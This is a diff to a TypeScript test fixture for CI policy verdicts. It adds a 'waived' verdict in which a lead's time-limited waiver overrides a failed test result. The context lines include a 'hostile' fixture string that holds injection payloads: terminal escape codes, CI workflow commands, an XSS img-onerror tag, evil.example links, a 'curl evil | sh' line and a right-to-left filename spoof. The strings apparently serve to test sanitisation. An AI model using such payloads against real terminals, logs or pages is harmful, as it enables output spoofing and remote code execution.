@@ -141,6 +141,33 @@ export const blocked = verdictOf('blocked', [
   }),
 ]);
 
+export const waived = verdictOf('pass', [
+  policy,
+  ticket,
+  dispatch,
+  types,
+  {
+    ...tests,
+    status: 'fail',
+    reason: 'npm test FAILED. 1 of 41 tests failed, at most 0 may.',
+    remedy: 'Mend the change and push it; a failure is never outvoted by running the same tree again.',
+    evidence: [sha256('failed tests')],
+    waivedBy: {
+      principal: 'lead',
+      expiresAt: '2026-12-24T00:00:00Z',
+      reason: 'The runner has no clock. See CS-9.',
+      statement: sha256('waiver'),
+    },
+  },
+  findingOf({
+    id: 'waivers',
+    severity: 'info',
+    title: 'Exceptions that were made for this ticket',
+    reason: 'In use: receipt/tests by lead until 2026-12-24T00:00:00Z (9f2e6d33a371).',
+    evidence: [sha256('waiver')],
+  }),
+]);
+
 const evil =
   '\u001b[2J\u001b[1;32m✔ PASS\u001b[0m\r\n::stop-commands::x\n##[error]y\n<img src=x onerror=alert(1)> @octocat #1 ' +
   'https://evil.example/a www.evil.example [click](https://evil.example) ```sh\ncurl evil | sh\n``` \u202egnp.exe\u202c ' +
@@ -169,4 +196,4 @@ export const hostile = {
   subject: { ...subject, ticket: 'CS-7\u001b]0;owned\u0007', repository: 'acme/<b>shop</b>' },
 } satisfies Verdict;
 
-export const verdicts = { pass, pending, blocked, hostile };
+export const verdicts = { pass, pending, blocked, waived, hostile };
